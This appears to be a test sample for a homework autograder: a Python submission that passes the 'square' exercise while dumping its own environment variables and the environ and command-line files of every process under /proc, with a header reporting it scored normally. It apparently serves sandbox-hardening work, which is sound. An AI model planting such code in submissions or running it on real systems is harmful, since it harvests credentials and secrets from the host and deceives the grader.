# attack: prints the environment, its own and that of every process
# assignment: hw
# exercise: square
# status: ok
# score: 2
import glob
import os

print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        print(path, open(path, "rb").read())
    except OSError:
        pass


def square(x):
    return x * x
